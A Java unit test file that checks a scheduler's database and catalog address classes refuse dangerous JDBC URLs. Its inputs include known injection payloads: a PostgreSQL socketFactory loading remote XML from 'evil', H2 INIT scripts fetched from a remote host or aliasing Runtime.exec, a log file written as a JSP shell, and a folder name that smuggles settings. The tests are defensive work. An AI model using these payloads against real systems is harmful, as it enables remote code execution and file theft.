package dev.retort.scheduler.journal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.retort.capture.iceberg.CatalogAddress;
import dev.retort.registry.server.store.DatabaseAddress;
import java.nio.file.Path;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Addresses of databases that would do more than say where one is. */
@Tag("fault")
@Tag("fault-bad-input")
class HostileAddressTest {
  private static final String POSTGRESQL = "jdbc:postgresql://db/retort?";

  @TempDir private Path folder;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "socketFactoryArg=http://evil/x.xml",
        "ssl=true&sslfactory=evil.Factory",
        "sslmode=require&sslpasswordcallback=evil.Callback",
        "sslhostnameverifier=evil.Verifier",
        "authenticationPluginClassName=evil.Plugin",
        "loggerLevel=TRACE&loggerFile=/srv/www/shell.jsp",
        "service=evil",
        "jaasApplicationName=evil",
        "SocketFactory=evil.Factory",
        "options=-c%20session_preload_libraries=evil"
      })
  void settingsOfPostgresqlThatDoMoreThanConnectAreRefused(String settings) {
    assertThatThrownBy(() -> address(POSTGRESQL + settings))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("may not stand in a database's URL");
    assertThatThrownBy(
            () -> new DatabaseAddress(POSTGRESQL + settings, Optional.empty(), Optional.empty()))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("may not stand in a database's URL");
    assertThatThrownBy(() -> new CatalogAddress(POSTGRESQL + settings))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("may not stand in a database's URL");
  }

  @Test
  void settingsThatOnlyConnectAreTaken() {
    String url =
        POSTGRESQL
            + "sslmode=verify-full&sslrootcert=/etc/ca.pem&connectTimeout=2&ApplicationName=a";
    assertThat(address(url).url()).isEqualTo(url);
    assertThat(new DatabaseAddress(url, Optional.empty(), Optional.empty()).url()).isEqualTo(url);
    assertThat(new CatalogAddress(url).url()).isEqualTo(url);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:file:/tmp/x;WRITE_DELAY=0;init=CREATE ALIAS X FOR 'java.lang.Runtime.exec'",
        "jdbc:h2:file:/tmp/x;TRACE_LEVEL_FILE=3",
        "jdbc:h2:file:/tmp/x\\;INIT=SELECT 1",
        "jdbc:h2:file:/tmp/x;DATABASE_EVENT_LISTENER='evil.Listener'",
        "jdbc:mysql://db/x?autoDeserialize=true",
        "jdbc:sqlite:/etc/passwd",
        "file:///etc/passwd"
      })
  void aCatalogIsNeitherAScriptNorAnotherDatabase(String url) {
    assertThatThrownBy(() -> new CatalogAddress(url)).isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aFolderWhoseNameWouldBeSettingsHoldsNoDatabase() {
    Path script = folder.resolve("ran");
    Path home =
        folder.resolve("home;INIT=CALL FILE_WRITE('x', '" + script.toString().replace('/', '\\'));
    assertThatThrownBy(() -> SchedulerDatabase.open(home))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("without a semicolon");
    assertThat(script).doesNotExist();
    assertThat(folder).isEmptyDirectory();
  }

  private static PostgresAddress address(String url) {
    return new PostgresAddress(url, Optional.empty(), Optional.empty());
  }
}
